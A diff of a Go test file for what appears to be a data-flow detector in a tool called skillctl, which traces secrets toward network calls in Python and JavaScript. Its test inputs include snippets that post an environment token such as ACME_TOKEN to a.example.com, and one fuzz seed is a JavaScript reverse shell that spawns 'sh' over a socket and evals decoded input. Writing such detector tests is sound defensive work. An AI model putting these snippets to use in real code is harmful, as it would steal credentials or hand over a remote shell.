@@ -1,16 +1,17 @@
 package chain_test
 
 import (
+	"bytes"
 	"fmt"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/skillctl/skillctl/engine/flow/chain"
 	"github.com/skillctl/skillctl/internal/document"
 )
 
-// What is made to be slow ends soon, and it is said that it was not followed.
+// What is made to be slow ends: where the steps that are followed do, and that is said.
+// Where nothing else runs it is a tenth of a second each.
 func TestBounds(t *testing.T) {
 	head, tail := "import os, requests\nk = os.environ['ACME_TOKEN']\n", "requests.post('https://a.example.com', data=x)\n"
 	for name, body := range map[string]string{
@@ -24,13 +25,10 @@ func TestBounds(t *testing.T) {
 		"blocks, deep": many(1000, func(i int) string { return strings.Repeat(" ", i) + "if k:\n" }) + "x = 1\n",
 	} {
 		t.Run(name, func(t *testing.T) {
-			begin, said := time.Now(), false
+			said := false
 			chain.Follow([]chain.Text{{File: "a.py", Source: []byte(head + body + tail), Language: chain.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(string, string) { said = true }})
 			if !said {
 				t.Error("nothing says that it was not followed to the end")
-			}
-			if took := time.Since(begin); took > 20*time.Second { // where nothing else runs it is a tenth of a second
-				t.Errorf("it took %s", took)
 			}
 		})
 	}
@@ -63,13 +61,63 @@ func FuzzFollow(f *testing.F) {
 	f.Add([]byte("const c=net.connect({host:'a.b'},()=>{const p=child_process.spawn('sh');c.pipe(p.stdin);p.stdout.pipe(c)});c.onmessage=e=>eval(atob('YWFhYWFhYWFhYWFhYWFh'+e))"), false)
 	f.Add([]byte("a=f''+f'{}'\nprint(f'', f'' % a)"), true)
 	f.Add([]byte("a=``+`${}`;`${a}`/``"), false)
-	f.Fuzz(func(_ *testing.T, text []byte, python bool) {
-		language := chain.JavaScript
+	f.Add([]byte("x = '{-1}{+1}{0}'.format(1)"), true)
+	f.Add([]byte("import os\n# far behind the end of the other text\ndef f(x=os.environ['A_KEY'], *a):\n  a += [1]\n  return f(*a, *a)\x00from a import f\nf()"), true)
+	f.Add([]byte("// far behind the end of the other text\nexport function f({token: other}) { return other }\x00import {f} from './a.js'\nf({token: process.env.A_KEY})"), false)
+	f.Fuzz(func(t *testing.T, text []byte, python bool) {
+		language, end := chain.JavaScript, ".js"
 		if python {
-			language = chain.Python
+			language, end = chain.Python, ".py"
 		}
-		chain.Follow([]chain.Text{{File: "a", Source: text, Language: language, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{
-			Lasting: func(string) bool { return true }, Touches: true, Cut: func(string, string) {},
+		var texts []chain.Text
+		for i, source := range bytes.SplitN(text, []byte{0}, 3) {
+			file := string(rune('a'+i)) + end
+			texts = append(texts, chain.Text{File: file, Source: source, Language: language, Start: document.Position{Line: 1, Column: 1}})
+		}
+		chain.Follow(texts, nil, chain.Options{
+			Lasting: func(string) bool { return true }, Touches: true, Told: func(string, document.Span, string) {},
+			Cut: func(file, why string) {
+				if strings.Contains(why, "a fault of its own") {
+					t.Errorf("%s: %s", file, why)
+				}
+			},
 		})
 	})
+}
+
+// A package is followed whatever its parts are called with, and where they stand.
+func TestOddCalls(t *testing.T) {
+	far := strings.Repeat("# far behind the end of the other text\n", 40)
+	list := strings.TrimSuffix(strings.Repeat("1,", 250), ",")
+	for name, text := range map[string]string{
+		"a number below zero in a format": "-- a.py --\nimport os, requests\nk = os.environ['ACME_TOKEN']\nrequests.post('https://a.example.com', data='{-1}{}'.format(k))\n",
+		"a default in another text":       "-- lib.py --\n" + far + "import os\ndef f(x=os.environ['ACME_TOKEN']):\n    return x\n-- a.py --\nimport requests, lib\nrequests.post('https://a.example.com', data=lib.f())\n",
+		"a pattern in another text":       "-- lib.js --\n" + strings.ReplaceAll(far, "#", "//") + "export function f({token: other}) { return other }\n-- a.js --\nimport {f} from './lib.js'\nfetch('https://a.example.com', {method: 'POST', body: f({token: process.env.ACME_TOKEN})})\n",
+		"more arguments than are kept":    "-- a.py --\nimport os, requests\ndef f(*a):\n    a += [os.environ['ACME_TOKEN']]\n    return a\nrequests.post('https://a.example.com', data=f(" + list + "))\n",
+		"a list that doubles":             "-- a.py --\nimport os, requests\na = [os.environ['ACME_TOKEN'], 1]\n" + strings.Repeat("a = [*a, *a]\n", 40) + "requests.post('https://a.example.com', data=a)\n",
+		"arguments that double":           "-- a.py --\nimport os, requests\ndef f(*a):\n    return a\na = [1, os.environ['ACME_TOKEN']]\n" + strings.Repeat("a = f(*a, *a)\n", 40) + "requests.post('https://a.example.com', data=a)\n",
+	} {
+		if got := follow(t, text); len(got) != 1 {
+			t.Errorf("%s: got %q", name, got)
+		}
+	}
+}
+
+// What fails at a program is said of it, and what was found before stays.
+func TestFails(t *testing.T) {
+	first := "import os, requests\nrequests.post('https://a.example.com', data=os.environ['ACME_TOKEN'])\n"
+	var said []string
+	got := chain.Follow([]chain.Text{
+		{File: "a.py", Source: []byte(first), Language: chain.Python}, {File: "b.py", Source: []byte("x = 'a' + 'b'\n"), Language: chain.Python},
+	}, nil, chain.Options{
+		Told: func(file string, _ document.Span, _ string) {
+			if file == "b.py" {
+				panic("out of range")
+			}
+		},
+		Cut: func(file, why string) { said = append(said, file+": "+why) },
+	})
+	if len(got.Chains) != 1 || len(said) != 1 || !strings.HasPrefix(said[0], "b.py: ") || !strings.Contains(said[0], "a fault of its own: out of range") {
+		t.Errorf("%d chains, said %q", len(got.Chains), said)
+	}
 }
